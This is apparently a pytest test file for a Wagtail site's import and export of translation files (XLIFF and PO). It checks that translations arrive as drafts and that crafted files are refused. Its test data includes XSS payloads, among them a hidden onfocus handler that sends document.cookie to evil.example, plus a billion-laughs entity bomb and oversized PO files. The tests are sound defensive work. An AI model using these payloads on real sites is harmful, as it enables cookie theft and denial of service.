"""Translation exchange files: a selection of the translation queue goes out as XLIFF 2.0 or PO,
and the translated file comes back as one new draft per page, never overwriting a text that
changed since the export and never letting in markup the Spanish text lacks."""

import copy
import json
import re
import xml.etree.ElementTree as ET  # noqa: S405 - reads files this site wrote

import polib
import pytest
from bs4 import BeautifulSoup
from django.contrib.auth.models import Group, Permission
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from wagtail.models import Page
from wagtail.users.models import UserProfile

from translation_queue import states
from translation_queue.exchange import XLIFF_1_2_NS, XLIFF_NS
from translation_queue.models import TranslationItem, TranslationState

from .factories import (
    SecretariatRoleFactory,
    StandardPageFactory,
    TechnicalSecretariatPageFactory,
)
from .html import parse, text
from .private_apis import read_xliff2

X = f"{{{XLIFF_NS}}}"
LINK = '<a href="https://example.org/declaracion">declaración</a>'
BODY = [
    {"type": "heading", "id": "h-1", "value": {"text": "Quiénes somos", "level": "h2"}},
    {
        "type": "paragraph",
        "id": "p-1",
        "value": f'<p data-block-key="k1">Lea la {LINK} de Quito.</p>',
    },
]
# A paragraph goes out as one segment, its link as a numbered code (PO: <a1>…</a1>; XLIFF: <pc>).
ENGLISH = {
    "body/h-1/text": "Who we are",
    "body/p-1#1": "Read the Quito <a1>declaration</a1>.",
}
STORED_P1 = (
    '<p data-block-key="k1">Read the Quito '
    '<a href="https://example.org/declaracion">declaration</a>.</p>'
)
CODE = re.compile(r"<(/?)([a-z]+)([0-9]+)(/?)>")


def speaking(user, language):
    profile = UserProfile.get_for_user(user)
    profile.preferred_language = language
    profile.save()
    return user


@pytest.fixture
def admin_in(client, django_user_model):
    """admin_in(language): the client, logged in as a superuser whose admin speaks `language`."""

    def login(language):
        user = django_user_model.objects.filter(
            username=f"admin-{language}"
        ).first() or django_user_model.objects.create_superuser(
            f"admin-{language}", f"admin-{language}@example.org", "x"
        )
        client.force_login(speaking(user, language))
        return client

    return login


@pytest.fixture
def about(home):
    """A published page whose English body is the Spanish layout, copied and not translated."""
    page = StandardPageFactory(
        parent=home,
        title_es="Acerca de",
        title_en="About",
        body_es=copy.deepcopy(BODY),
        body_en=copy.deepcopy(BODY),
    )
    page.save_revision().publish()
    states.refresh_page(page)
    return page


def export(client, **query):
    return client.get(reverse("translation_queue:export"), query)


def upload(client, content, name="translated.xlf"):
    data = content.encode() if isinstance(content, str) else content
    return client.post(
        reverse("translation_queue:import"), {"file": SimpleUploadedFile(name, data)}
    )


def fill_inline(target, text):
    """Writes a translation given with PO placeholders (<a1>…</a1>, <br2/>) as XLIFF codes."""
    stack, last, position = [target], None, 0

    def add(piece):
        nonlocal last
        if last is None:
            stack[-1].text = (stack[-1].text or "") + piece
        else:
            last.tail = (last.tail or "") + piece

    for match in CODE.finditer(text):
        add(text[position : match.start()])
        closing, _name, number, empty = match.groups()
        if closing:
            last = stack.pop()
        elif empty:
            last = ET.SubElement(stack[-1], f"{X}ph", {"id": number})
        else:
            stack.append(ET.SubElement(stack[-1], f"{X}pc", {"id": number}))
            last = None
        position = match.end()
    add(text[position:])


def fill_xliff(content, translations, state="translated"):
    root = ET.fromstring(content)  # noqa: S314 - the file this site just wrote
    for unit in root.iter(f"{X}unit"):
        if unit.get("name") in translations:
            segment = unit.find(f"{X}segment")
            target = segment.find(f"{X}target")
            if target is not None:
                segment.remove(target)
            fill_inline(ET.SubElement(segment, f"{X}target"), translations[unit.get("name")])
            segment.set("state", state)
    return ET.tostring(root, encoding="unicode")


def fill_po(content, translations):
    po = polib.pofile(content)
    for entry in po:
        key = entry.msgctxt.split("|", 1)[1]
        if key in translations:
            entry.msgstr = translations[key]
    return str(po)


def latest_version(page):
    return Page.objects.get(pk=page.pk).specific.get_latest_revision_as_object()


def latest_body_en(page):
    latest = latest_version(page)
    return {item["id"]: item["value"] for item in latest.body_en.raw_data}


def states_of(page):
    return dict(
        TranslationItem.objects.filter(page=page, language="en").values_list("key", "state")
    )


def test_an_xliff_export_holds_each_text_to_do_with_what_it_was_exported_against(admin_in, about):
    response = export(admin_in("en"), language="en", page=about.pk, format="xliff")

    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/xliff+xml")
    assert "attachment" in response["Content-Disposition"]
    root = ET.fromstring(response.content)  # noqa: S314
    assert (root.tag, root.get("version"), root.get("srcLang"), root.get("trgLang")) == (
        f"{X}xliff",
        "2.0",
        "es",
        "en",
    )
    (file_element,) = root.findall(f"{X}file")
    assert file_element.get("original") == str(about.pk)
    units = {unit.get("name"): unit for unit in file_element.iter(f"{X}unit")}
    # The title is translated already: only the body's texts are still to do.
    assert set(units) == {"body/h-1/text", "body/p-1#1"}
    paragraph = units["body/p-1#1"]
    source = paragraph.find(f"{X}segment/{X}source")
    assert "".join(source.itertext()) == "Lea la declaración de Quito."
    assert source.find(f"{X}pc").text == "declaración"
    assert "data-block-key" not in ET.tostring(source, encoding="unicode")
    # Copied Spanish is not a translation: nothing goes out as the target, marked as to do.
    assert paragraph.find(f"{X}segment/{X}target") is None
    assert paragraph.find(f"{X}segment").get("state") == "initial"
    categories = {note.get("category") for note in paragraph.iter(f"{X}note")}
    assert {"qp-source-fingerprint", "qp-target-fingerprint", "location"} <= categories


def test_a_po_export_gives_each_text_its_page_and_key_as_context_and_a_comment(admin_in, about):
    response = export(admin_in("en"), language="en", page=about.pk, format="po")

    po = polib.pofile(response.content.decode())
    assert po.metadata["Language"] == "en"
    entry = po.find(BODY[0]["value"]["text"], msgctxt=f"{about.pk}|body/h-1/text")
    assert entry.msgstr == ""  # the Spanish layout's copy is not sent as a translation
    paragraph = po.find("Lea la <a1>declaración</a1> de Quito.", msgctxt=f"{about.pk}|body/p-1#1")
    assert paragraph.msgstr == ""
    assert "Keep each tag, as in the source: <a1>…</a1>" in paragraph.comment
    assert "Acerca de" in entry.comment
    assert "qp-source-fingerprint: " in entry.comment
    assert "qp-target-fingerprint: " in entry.comment


def test_a_translated_xliff_file_comes_back_as_a_draft_waiting_for_approval(admin_in, about):
    client = admin_in("en")
    exported = export(client, language="en", page=about.pk, format="xliff").content.decode()

    response = upload(client, fill_xliff(exported, ENGLISH))

    assert response.status_code == 200
    about.refresh_from_db()
    assert about.has_unpublished_changes
    body = latest_body_en(about)
    assert body["h-1"]["text"] == "Who we are"
    assert body["p-1"] == STORED_P1
    # Nothing is published: visitors still see the copied Spanish layout.
    assert about.specific.body_en.raw_data[0]["value"]["text"] == "Quiénes somos"
    assert about.revisions.count() == 2
    assert states_of(about)["body/h-1/text"] == TranslationState.WAITING
    assert states_of(about)["body/p-1"] == TranslationState.WAITING


def test_a_translated_po_file_comes_back_as_a_draft_waiting_for_approval(admin_in, about):
    client = admin_in("en")
    exported = export(client, language="en", page=about.pk, format="po").content.decode()

    upload(client, fill_po(exported, ENGLISH), name="translated.po")

    body = latest_body_en(about)
    assert body["h-1"]["text"] == "Who we are"
    assert body["p-1"] == STORED_P1
    assert set(states_of(about).values()) == {TranslationState.DONE, TranslationState.WAITING}


def test_a_field_of_the_page_is_imported_too(admin_in, about):
    client = admin_in("en")
    exported = export(client, language="en", page=about.pk, format="po", state="done")

    upload(client, fill_po(exported.content.decode(), {"title": "About the Process"}), "t.po")

    assert latest_version(about).title_en == "About the Process"


@pytest.mark.parametrize(
    "text", ["About 80% of the Process", "50 % de los {casos}", "Sets {like} this"]
)
def test_a_page_text_may_hold_percent_signs_and_braces(admin_in, about, text):
    # A page's text is never formatted: only interface strings keep their source's placeholders.
    client = admin_in("en")
    exported = export(client, language="en", page=about.pk, format="po", state="done")

    upload(client, fill_po(exported.content.decode(), {"title": text}), "t.po")

    assert latest_version(about).title_en == text


def test_the_report_says_what_was_imported_and_links_to_the_editor_and_the_queue(admin_in, about):
    client = admin_in("en")
    exported = export(client, language="en", page=about.pk, format="xliff").content.decode()

    response = upload(client, fill_xliff(exported, {"body/h-1/text": "Who we are"}))

    page = parse(response)
    assert "Language EN. Imported: 1, skipped: 1, refused: 0." in text(page)
    links = {a.get("href") for a in page.select("a")}
    assert reverse("wagtailadmin_pages:edit", args=[about.pk]) in links
    assert f"{reverse('translation_queue:queue')}?page={about.pk}&language=en" in links


@pytest.mark.parametrize("with_draft", [False, True], ids=["live page", "page with a draft"])
def test_an_inline_items_text_is_imported_into_that_item(admin_in, home, with_draft):
    page = TechnicalSecretariatPageFactory(parent=home)
    role = SecretariatRoleFactory(page=page, role_es="Punto focal", role_en="Punto focal")
    page.save_revision().publish()
    if with_draft:
        draft = page.get_latest_revision_as_object()
        draft.intro_en = "The secretariat, in a draft"
        draft.save_revision()
    states.refresh_page(page)
    client = admin_in("en")
    exported = export(client, language="en", page=page.pk, format="po")
    key = f"team/{role.pk}/role"

    upload(client, fill_po(exported.content.decode(), {key: "Focal point"}), name="t.po")

    (latest_role,) = latest_version(page).team.all()
    assert (latest_role.pk, latest_role.role_en) == (role.pk, "Focal point")
    role.refresh_from_db()
    assert role.role_en == "Punto focal"  # the live item waits for the draft's approval


def test_a_text_changed_since_the_export_is_refused_and_not_overwritten(admin_in, about):
    client = admin_in("en")
    exported = export(client, language="en", page=about.pk, format="xliff").content.decode()
    # Meanwhile an editor translates the heading in the page's editor.
    draft = about.get_latest_revision_as_object()
    draft.body_en = [
        {**BODY[0], "value": {"text": "About us", "level": "h2"}},
        copy.deepcopy(BODY[1]),
    ]
    draft.save_revision()

    response = upload(client, fill_xliff(exported, ENGLISH))

    body = latest_body_en(about)
    assert body["h-1"]["text"] == "About us"
    assert body["p-1"] == STORED_P1  # the untouched text is still imported
    assert "Changed since the export" in text(parse(response))


def test_a_change_to_the_spanish_text_since_the_export_refuses_its_translation(admin_in, about):
    client = admin_in("en")
    exported = export(client, language="en", page=about.pk, format="po").content.decode()
    draft = about.get_latest_revision_as_object()
    draft.body_es = [{**BODY[0], "value": {"text": "Nosotros", "level": "h2"}}, BODY[1]]
    draft.save_revision()

    upload(client, fill_po(exported, ENGLISH), name="t.po")

    assert latest_body_en(about)["h-1"]["text"] == "Quiénes somos"


@pytest.mark.parametrize(
    "translation",
    [
        '<a href="https://evil.example/">Read</a> the <a1>declaration</a1>.',
        "Read the declaration.",
        "Read the <a1>declaration</a1>.<script>alert(1)</script>",
        "Read the <a2>declaration</a2>.",
        "Read the <a1>declaration</a1> <a1>again</a1>.",
        "Read the <a1>declaration.",
    ],
    ids=["link typed", "code removed", "script added", "other code", "code twice", "unclosed"],
)
@pytest.mark.parametrize("kind", ["xliff", "po"])
def test_a_segment_whose_codes_are_not_the_sources_is_refused(admin_in, about, translation, kind):
    if kind == "xliff" and translation.count("<a") != translation.count("</a"):
        pytest.skip("an XLIFF <pc> is always closed: its XML closes it")
    client = admin_in("en")
    exported = export(client, language="en", page=about.pk, format=kind).content.decode()
    filled = (fill_xliff if kind == "xliff" else fill_po)(exported, {"body/p-1#1": translation})

    response = upload(client, filled, name=f"t.{kind}")

    assert latest_body_en(about)["p-1"] == BODY[1]["value"]
    assert "Keep each tag of the source text exactly once" in text(parse(response))


def test_a_plain_text_may_not_gain_tags(admin_in, about):
    client = admin_in("en")
    exported = export(client, language="en", page=about.pk, format="xliff").content.decode()

    upload(client, fill_xliff(exported, {"body/h-1/text": "Who <b>we</b> are"}))

    assert latest_body_en(about)["h-1"]["text"] == "Quiénes somos"


@pytest.mark.parametrize(
    ("language", "report"),
    [("en", "Imported: 2, skipped: 0, refused: 0"), ("es", "Importados: 2, omitidos: 0")],
)
@pytest.mark.parametrize("kind", ["xliff", "po"])
def test_a_body_without_the_spanish_layout_is_imported_in_one_pass(
    admin_in, home, language, report, kind
):
    page = StandardPageFactory(parent=home, body_es=copy.deepcopy(BODY), body_en=[])
    page.save_revision().publish()
    states.refresh_page(page)
    client = admin_in(language)
    exported = export(client, language="en", page=page.pk, format=kind).content.decode()
    filled = (fill_xliff if kind == "xliff" else fill_po)(exported, ENGLISH)

    response = upload(client, filled, name=f"t.{kind}")

    assert report in text(parse(response))
    # The import copied the Spanish layout (same block ids) and wrote the translations into it.
    body = latest_body_en(page)
    assert list(body) == ["h-1", "p-1"]
    assert (body["h-1"]["text"], body["p-1"]) == ("Who we are", STORED_P1)
    assert page.revisions.count() == 2


def test_a_body_whose_layout_was_copied_after_the_export_still_imports(admin_in, home):
    page = StandardPageFactory(parent=home, body_es=copy.deepcopy(BODY), body_en=[])
    page.save_revision().publish()
    states.refresh_page(page)
    client = admin_in("es")
    exported = export(client, language="en", page=page.pk, format="po").content.decode()
    draft = page.get_latest_revision_as_object()
    draft.body_en = copy.deepcopy(BODY)  # "Copiar la estructura" after the export
    draft.save_revision()

    response = upload(client, fill_po(exported, ENGLISH), name="t.po")

    assert "Cambió después de la exportación" not in text(parse(response))
    assert latest_body_en(page)["h-1"]["text"] == "Who we are"


@pytest.mark.parametrize(
    ("content", "error"),
    [
        ("<xliff><file>", "not well-formed XML"),
        ('<?xml version="1.0"?><html></html>', "not XLIFF 2.0"),
        ("Hello, this is a letter, not a translation.\n", "not a PO file"),
        (
            '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
            '<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
            '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
            f'<xliff xmlns="{XLIFF_NS}" version="2.0" srcLang="es" trgLang="en">&lol3;</xliff>',
            "declares a document type or entities",
        ),
        (b"\xff\xfe\x00binary", "The file is not in UTF-8"),
        (b"\x80\x81binary", "neither XLIFF nor a PO file"),
        ('msgid ""\nmsgstr ""\n"Language: en\\n"\n', "no texts exported from this site"),
    ],
    ids=[
        "malformed XML",
        "other XML",
        "not a PO file",
        "billion laughs",
        "binary with a UTF-16 mark",
        "binary",
        "empty PO",
    ],
)
def test_a_file_that_cannot_be_read_is_a_form_error(admin_in, about, content, error):
    response = upload(admin_in("en"), content)

    assert response.status_code == 200
    assert error in text(parse(response))
    assert about.revisions.count() == 1


def test_a_file_larger_than_the_limit_is_a_form_error(admin_in, about):
    response = upload(admin_in("en"), b"#" * (5 * 1024 * 1024 + 1), name="big.po")

    assert "larger than 5 MB" in text(parse(response))


def test_a_file_for_a_language_the_site_does_not_have_is_a_form_error(admin_in, about):
    client = admin_in("en")
    exported = export(client, language="en", page=about.pk, format="xliff").content.decode()

    response = upload(client, exported.replace('trgLang="en"', 'trgLang="fr"'))

    assert "(fr) is not one this site translates into" in text(parse(response))


def test_a_user_who_cannot_edit_the_page_imports_nothing_into_it(
    client, admin_in, about, django_user_model
):
    exported = export(admin_in("en"), language="en", page=about.pk, format="xliff")
    reader = django_user_model.objects.create_user("lectora", "lectora@example.org", "x")
    readers = Group.objects.create(name="Readers")
    readers.permissions.add(
        Permission.objects.get(codename="access_admin"),
        Permission.objects.get(codename="import_translation_files"),
    )
    reader.groups.add(readers)
    client.force_login(speaking(reader, "en"))

    response = upload(client, fill_xliff(exported.content.decode(), ENGLISH))

    assert "You cannot edit this page." in text(parse(response))
    assert about.revisions.count() == 1


def test_a_translator_who_can_edit_the_page_imports_into_it(client, admin_in, about, translator):
    exported = export(admin_in("en"), language="en", page=about.pk, format="xliff")
    client.force_login(speaking(translator, "en"))

    upload(client, fill_xliff(exported.content.decode(), ENGLISH))

    assert latest_body_en(about)["h-1"]["text"] == "Who we are"


def test_exporting_without_a_language_asks_for_one(admin_in, about):
    response = export(admin_in("en"), format="xliff")

    assert response.status_code == 200
    assert "Choose a language: a file holds the translations into one language." in text(
        parse(response)
    )


def test_exporting_a_selection_with_nothing_to_do_says_so(admin_in, about):
    response = export(
        admin_in("en"), language="en", page=about.pk, state="out_of_date", format="po"
    )

    assert "Nothing to export" in text(parse(response))


def test_the_queue_links_to_the_export_of_its_selection_and_to_the_import(admin_in, about):
    response = admin_in("en").get(
        reverse("translation_queue:queue"), {"language": "en", "page": about.pk}
    )

    links = {a.get("href") for a in parse(response).select("a")}
    export_url = reverse("translation_queue:export")
    assert f"{export_url}?language=en&page={about.pk}&format=xliff" in links
    assert f"{export_url}?language=en&page={about.pk}&format=po" in links
    assert reverse("translation_queue:import") in links


def test_the_export_and_import_pages_speak_spanish_to_a_spanish_admin(admin_in, about):
    client = admin_in("es")

    export_page = text(parse(export(client, format="xliff")))
    import_page = text(parse(client.get(reverse("translation_queue:import"))))

    assert "Elija un idioma: un archivo contiene las traducciones a un solo idioma." in export_page
    assert "Importar un archivo traducido" in import_page


def test_the_report_speaks_spanish_to_a_spanish_admin(admin_in, about):
    client = admin_in("es")
    exported = export(client, language="en", page=about.pk, format="xliff").content.decode()
    draft = about.get_latest_revision_as_object()
    draft.body_es = [{**BODY[0], "value": {"text": "Nosotros", "level": "h2"}}, BODY[1]]
    draft.save_revision()

    page = text(parse(upload(client, fill_xliff(exported, ENGLISH))))

    assert "Idioma EN. Importados: 1, omitidos: 0, rechazados: 1." in page
    assert "Cambió después de la exportación" in page


# Item 2: markup compared as parsed, imported rich text stored as the editor stores it, and the
# import kept for the people who translate.

HIDDEN_HANDLER = (
    '<p data-block-key="k1">Read the Quito <a href="https://example.org/declaracion '
    'data-block-key=" autofocus onfocus=\'fetch(`//evil.example/`+document.cookie)\' x="">'
    "declaration</a>.</p>"
)
HOSTILE = [
    HIDDEN_HANDLER,
    '<p data-block-key="k1">Read the Quito <a href="https://example.org/declaracion '
    'data-block-key=" style=animation-name:spin onanimationstart=alert(1) x="">'
    "declaration</a>.</p>",
    '<p data-block-key="k1">Read the Quito <a href="https://example.org/declaracion" '
    'data-block-key="y" onclick="alert(1)">declaration</a>.</p>',
    '<p data-block-key="k1">Read the Quito <a href="javascript:alert(1)">declaration</a>.</p>',
    '<p data-block-key="k1">Read the Quito <a href="https://example.org/declaracion" '
    'title="<img src=x onerror=alert(1)>">declaration</a>.</p>',
    '<p data-block-key="k1">Read the Quito <a href=https://example.org/declaracion '
    "onmouseover=alert(1)>declaration</a>.</p>",
    '<p data-block-key="k1 onclick=alert(1)">Read the Quito '
    '<a href="https://example.org/declaracion">declaration</a>.</p>',
]
HOSTILE_IDS = [
    "handler hidden in a link target",
    "another handler hidden in a link target",
    "handler next to a paragraph id",
    "javascript link",
    "tag in an attribute",
    "unquoted attributes",
    "handler inside a paragraph id",
]


def hostile_markup(html, *, elements=True):
    """Event handlers, autofocus, script links (and elements the editor never stores in a
    paragraph), as a browser's parser would find them in `html`."""
    found = []
    for tag in BeautifulSoup(html, "html.parser").find_all(True):
        if elements and tag.name in ("img", "span", "svg", "iframe", "script"):
            found.append(tag.name)
        for name, value in tag.attrs.items():
            value = " ".join(value) if isinstance(value, list) else value
            if name.startswith("on") or name == "autofocus":
                found.append(name)
            elif "javascript:" in "".join(str(value).lower().split()):
                found.append(f"{name}={value}")
    return found


def stored_bodies(page):
    """The English body's paragraphs of every revision of `page`."""
    for revision in page.revisions.all():
        body = revision.content.get("body_en") or "[]"
        for block in json.loads(body) if isinstance(body, str) else body:
            if isinstance(block.get("value"), str):
                yield block["value"]


def has_no_hostile_markup(html):
    return not hostile_markup(html)


@pytest.fixture
def moderator_client(client, staff):
    def login():
        client.logout()
        client.force_login(speaking(staff("moderadora", "Moderators"), "en"))
        return client

    return login


@pytest.mark.parametrize("translation", HOSTILE, ids=HOSTILE_IDS)
def test_a_translation_with_a_hidden_handler_or_script_link_never_reaches_a_revision(
    client, admin_in, about, translator, moderator_client, translation
):
    exported = export(admin_in("en"), language="en", page=about.pk, format="xliff")
    client.force_login(speaking(translator, "en"))

    response = upload(client, fill_xliff(exported.content.decode(), {"body/p-1#1": translation}))

    assert response.status_code == 200
    for paragraph in stored_bodies(about):
        assert has_no_hostile_markup(paragraph)
    draft = moderator_client().get(
        reverse("wagtailadmin_pages:view_draft", args=[about.pk]), {"mode": "en"}
    )
    assert draft.status_code == 200
    assert not hostile_markup(draft.content.decode(), elements=False)


def test_a_translation_keeping_the_sources_markup_and_ids_is_still_imported(admin_in, about):
    client = admin_in("en")
    exported = export(client, language="en", page=about.pk, format="po").content.decode()
    # The link moved: a code may go anywhere in the sentence.
    translation = "<a1>Declaration</a1>: read it."

    upload(client, fill_po(exported, {"body/p-1#1": translation}), name="t.po")

    stored = latest_body_en(about)["p-1"]
    assert '<a href="https://example.org/declaracion">Declaration</a>: read it.' in stored


def test_imported_rich_text_is_stored_as_the_editor_stores_it(admin_in, home):
    # A Spanish text that never went through the editor (written by a script, or older than a
    # feature's removal): markup the editor would not keep must not survive an import either.
    body = [
        {
            "type": "paragraph",
            "id": "p-1",
            "value": '<p>Lea <a href="javascript:alert(1)">esto</a> '
            '<span onclick="alert(2)">ya</span>.</p>',
        }
    ]
    page = StandardPageFactory(parent=home, body_es=body, body_en=copy.deepcopy(body))
    page.save_revision().publish()
    states.refresh_page(page)
    client = admin_in("en")
    exported = export(client, language="en", page=page.pk, format="xliff").content.decode()
    translation = "Read <a1>this</a1> <span2>now</span2>."

    upload(client, fill_xliff(exported, {"body/p-1#1": translation}))

    stored = latest_body_en(page)["p-1"]
    assert "Read" in stored and "now" in stored
    assert has_no_hostile_markup(stored)
    assert "<span" not in stored


def test_an_imported_rich_text_field_is_stored_as_the_editor_stores_it(admin_in, home):
    page = TechnicalSecretariatPageFactory(
        parent=home, history_es="<p>Creada en 2018.</p>", history_en=""
    )
    page.save_revision().publish()
    states.refresh_page(page)
    client = admin_in("en")
    exported = export(client, language="en", page=page.pk, format="po").content.decode()

    upload(client, fill_po(exported, {"history#1": "Created in 2018."}), name="t.po")

    stored = latest_version(page).history_en
    # The editor's converter gives each paragraph an id: the text went through it.
    assert stored.startswith('<p data-block-key="') and stored.endswith(">Created in 2018.</p>")


def test_a_plain_text_with_markup_characters_is_shown_escaped(admin_in, about, moderator_client):
    client = admin_in("en")
    exported = export(client, language="en", page=about.pk, format="xliff").content.decode()

    upload(client, fill_xliff(exported, {"body/h-1/text": 'Who we are: 5 > 3 & "us"'}))

    assert latest_body_en(about)["h-1"]["text"] == 'Who we are: 5 > 3 & "us"'
    draft = moderator_client().get(
        reverse("wagtailadmin_pages:view_draft", args=[about.pk]), {"mode": "en"}
    )
    assert "Who we are: 5 &gt; 3 &amp; &quot;us&quot;" in draft.content.decode()


def test_a_translator_may_import_and_sees_the_import(client, translator, about):
    client.force_login(speaking(translator, "en"))

    assert client.get(reverse("translation_queue:import")).status_code == 200
    queue = parse(client.get(reverse("translation_queue:queue")))
    assert reverse("translation_queue:import") in {a.get("href") for a in queue.select("a")}


@pytest.mark.parametrize("role", ["Editors", "Moderators"])
def test_an_editor_or_moderator_may_not_import_nor_sees_the_import(
    client, admin_in, staff, about, role
):
    exported = export(admin_in("en"), language="en", page=about.pk, format="xliff")
    client.logout()
    client.force_login(speaking(staff("persona", role), "en"))

    # Wagtail answers a PermissionDenied in the admin with a redirect to the dashboard.
    refused = client.get(reverse("translation_queue:import"))
    assert (refused.status_code, refused.url) == (302, reverse("wagtailadmin_home"))
    response = upload(client, fill_xliff(exported.content.decode(), ENGLISH))
    assert (response.status_code, response.url) == (302, reverse("wagtailadmin_home"))
    assert about.revisions.count() == 1
    for url in (reverse("translation_queue:queue"), reverse("translation_queue:export")):
        links = {a.get("href") for a in parse(client.get(url)).select("a")}
        assert reverse("translation_queue:import") not in links


def test_the_import_permission_can_be_given_in_the_group_editor(admin_in):
    response = admin_in("en").get(reverse("wagtailusers_groups:add"))

    assert "Can import translated files into pages" in response.content.decode()


# Item 9: a PO file is measured before polib parses it.


def po_with(body):
    return 'msgid ""\nmsgstr ""\n"Language: en\\n"\n\n' + body


@pytest.mark.parametrize(
    ("content", "error"),
    [
        (po_with("#. comment\n" * 70_000), "more than 60000 lines"),
        (
            po_with("# " + "c" * 70 + "\n" * 1 + ("#. " + "c" * 70 + "\n") * 1500)
            + 'msgctxt "1|title"\nmsgid "a"\nmsgstr "b"\n',
            "is too long for a translation exchange file",
        ),
        (
            po_with('msgctxt "1|title"\nmsgid "a"\nmsgstr ""\n' + ('"' + "b" * 998 + '"\n') * 250),
            "is too long for a translation exchange file",
        ),
        (
            po_with(
                "".join(
                    f'msgctxt "1|t{index}"\nmsgid "a"\nmsgstr ""\n'
                    + ('"' + "b" * 998 + '"\n') * 120
                    for index in range(12)
                )
            ),
            "split over too many lines",
        ),
        (
            po_with("".join(f'msgctxt "1|t{i}"\nmsgid "a"\nmsgstr "b"\n\n' for i in range(5001))),
            "more than 5000 texts",
        ),
    ],
    ids=["many comment lines", "a long comment", "a long continued text", "long texts", "texts"],
)
def test_a_po_file_too_costly_to_parse_is_refused_before_parsing(
    client, translator, about, content, error
):
    client.force_login(speaking(translator, "en"))

    response = upload(client, content, name="crafted.po")

    assert response.status_code == 200
    assert error in text(parse(response))
    assert about.revisions.count() == 1


# Item 10: crafted files are form errors, never 500s.


def xliff_with(original="1", declaration='<?xml version="1.0" encoding="UTF-8"?>'):
    return (
        f'{declaration}<xliff xmlns="{XLIFF_NS}" version="2.0" srcLang="es" trgLang="en">'
        f'<file id="page-{original}" original="{original}"><unit id="title" name="title">'
        "<segment><source>Hola</source><target>Hello</target></segment></unit></file></xliff>"
    )


@pytest.mark.parametrize(
    ("content", "error"),
    [
        (xliff_with(original="²"), "The page no longer exists."),
        (xliff_with(original="١٢"), "The page no longer exists."),
        (
            po_with('msgctxt "²|title"\nmsgid "Hola"\nmsgstr "Hello"\n'),
            "The page no longer exists.",
        ),
        (
            xliff_with(declaration='<?xml version="1.0" encoding="shift_jis"?>'),
            "declares the encoding shift_jis",
        ),
        (
            xliff_with(declaration='<?xml version="1.0" encoding="euc-jp"?>'),
            "declares the encoding euc-jp",
        ),
        (
            xliff_with(declaration='<?xml version="1.0" encoding="x-no-such-thing"?>'),
            "declares the encoding x-no-such-thing",
        ),
        (
            xliff_with(declaration='<?xml version="1.0" encoding="ISO-8859-1"?>'),
            "declares the encoding ISO-8859-1",
        ),
        (
            b"\xff\xfe" + xliff_with(declaration='<?xml version="1.0"?>').encode("utf-16-le"),
            "The file is not in UTF-8",
        ),
        (
            b"\xfe\xff" + po_with('msgctxt "1|title"\nmsgid "a"\nmsgstr "b"\n').encode("utf-16-be"),
            "The file is not in UTF-8",
        ),
        (xliff_with().encode().replace(b"Hello", b"Hell\xe9"), "The file is not in UTF-8"),
    ],
    ids=[
        "superscript page id in XLIFF",
        "arabic-indic page id in XLIFF",
        "superscript page id in PO",
        "shift_jis",
        "euc-jp",
        "unknown encoding",
        "latin-1",
        "UTF-16 XLIFF",
        "UTF-16 PO",
        "invalid UTF-8",
    ],
)
def test_a_crafted_file_is_a_form_error_or_a_refusal_never_a_500(
    client, translator, about, content, error
):
    client.force_login(speaking(translator, "en"))

    response = upload(client, content)

    assert response.status_code == 200
    assert error in text(parse(response))
    assert about.revisions.count() == 1


def test_an_inline_item_key_with_unicode_digits_is_refused(client, admin_in, translator, home):
    page = TechnicalSecretariatPageFactory(parent=home)
    SecretariatRoleFactory(page=page, role_es="Punto focal", role_en="Punto focal")
    page.save_revision().publish()
    states.refresh_page(page)
    exported = export(admin_in("en"), language="en", page=page.pk, format="po")
    po = polib.pofile(exported.content.decode())
    for entry in po:
        if entry.msgctxt.split("|", 1)[1].startswith("team/"):
            entry.msgctxt = f"{page.pk}|team/²/role"
            entry.msgstr = "Focal point"
    client.logout()
    client.force_login(speaking(translator, "en"))

    response = upload(client, str(po), name="t.po")

    assert response.status_code == 200
    assert page.revisions.count() == 1


# Items 6-9 of the exchange issue: states in the files, segments with inline codes read by
# translation tools, drafts sent to moderation, and a lock that says what to do.


@pytest.fixture
def out_of_date_title(about):
    """The heading translated, then its Spanish corrected: the translation is out of date."""
    draft = latest_version(about)
    draft.body_en = [{**BODY[0], "value": {"text": "Who we are", "level": "h2"}}, BODY[1]]
    draft.save_revision().publish()
    draft = latest_version(about)
    draft.body_es = [{**BODY[0], "value": {"text": "Nosotros", "level": "h2"}}, BODY[1]]
    draft.save_revision().publish()
    about.refresh_from_db()
    states.refresh_page(about)
    assert states_of(about)["body/h-1/text"] == TranslationState.OUT_OF_DATE
    return about


def test_an_out_of_date_text_goes_out_in_po_as_fuzzy_with_its_previous_spanish(
    admin_in, out_of_date_title
):
    exported = export(admin_in("en"), language="en", page=out_of_date_title.pk, format="po")

    po = polib.pofile(exported.content.decode())
    entry = po.find("Nosotros", msgctxt=f"{out_of_date_title.pk}|body/h-1/text")
    assert entry.msgstr == "Who we are"
    assert "fuzzy" in entry.flags
    assert entry.previous_msgid == "Quiénes somos"


def test_an_out_of_date_text_goes_out_in_xliff_as_initial(admin_in, out_of_date_title):
    exported = export(admin_in("en"), language="en", page=out_of_date_title.pk, format="xliff")

    root = ET.fromstring(exported.content)  # noqa: S314
    (unit,) = [u for u in root.iter(f"{X}unit") if u.get("name") == "body/h-1/text"]
    segment = unit.find(f"{X}segment")
    assert (segment.get("state"), segment.get("subState")) == ("initial", "qp:out-of-date")
    assert segment.find(f"{X}target").text == "Who we are"
    notes = {note.get("category"): note.text for note in unit.iter(f"{X}note")}
    assert notes["previous-source"] == "Quiénes somos"


def test_a_done_text_goes_out_as_final_and_a_waiting_one_as_translated(admin_in, about):
    client = admin_in("en")
    exported = export(client, language="en", page=about.pk, format="xliff").content.decode()
    upload(client, fill_xliff(exported, {"body/h-1/text": "Who we are"}))

    again = export(client, language="en", page=about.pk, format="xliff", state="waiting")
    done = export(client, language="en", page=about.pk, format="xliff", state="done")

    def state_of(response, name):
        root = ET.fromstring(response.content)  # noqa: S314
        (unit,) = [u for u in root.iter(f"{X}unit") if u.get("name") == name]
        return unit.find(f"{X}segment").get("state")

    assert state_of(again, "body/h-1/text") == "translated"
    assert state_of(done, "title") == "final"


@pytest.mark.parametrize("kind", ["xliff", "po"])
def test_a_file_confirms_an_out_of_date_translation_that_needs_no_change(
    admin_in, out_of_date_title, kind
):
